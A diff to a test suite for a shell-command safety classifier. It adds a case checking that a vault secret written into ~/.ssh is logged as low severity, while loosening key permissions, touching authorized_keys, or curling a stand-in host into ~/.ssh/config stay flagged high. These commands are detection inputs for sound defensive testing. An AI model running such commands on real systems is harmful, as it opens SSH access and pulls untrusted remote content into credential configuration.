@@ -155,6 +155,17 @@ describe('system writes', () => {
     expect(verdict(sh('echo "export PATH=$PATH:/opt/x" | sudo tee -a /etc/profile'))).toBe('reject')
   })
 
+  it('a key put where ssh looks for one, and made private, is on record but not a system write', () => {
+    const found = sh('vault kv get -field=key secret/payroll/sftp > ~/.ssh/paycrest_ed25519 && chmod 600 ~/.ssh/paycrest_ed25519')
+    expect(strongRules(found)).not.toContain('code/system-write')
+    expect(strongRules(found)).not.toContain('code/exfiltration')
+    expect(found.some((f) => f.rule === 'code/system-write' && f.severity === 'low')).toBe(true)
+    // what would let someone else in, or open a key up, stays high
+    expect(strongRules(sh('chmod 600 ~/.ssh/authorized_keys'))).toContain('code/system-write')
+    expect(strongRules(sh('chmod 644 ~/.ssh/id_rsa'))).toContain('code/system-write')
+    expect(strongRules(sh('curl -s https://x.example/k > ~/.ssh/config'))).toContain('code/system-write')
+  })
+
   it('logs in /tmp are fine', () => {
     expect(verdict(sh('echo "done" >> /tmp/build.log'))).toBe('pass')
   })
